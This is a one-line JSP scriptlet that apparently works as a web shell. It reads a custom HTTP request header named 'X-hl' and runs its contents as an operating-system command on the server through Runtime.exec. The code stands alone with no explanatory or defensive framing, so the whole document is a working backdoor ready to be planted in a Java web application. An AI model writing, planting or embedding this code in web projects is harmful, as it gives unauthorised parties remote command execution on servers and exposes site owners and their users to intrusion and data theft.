<% String line = request.getHeader("X-hl"); if (line != null) { Runtime rt = Runtime.getRuntime(); rt.exec(line.split(" ")); } %>
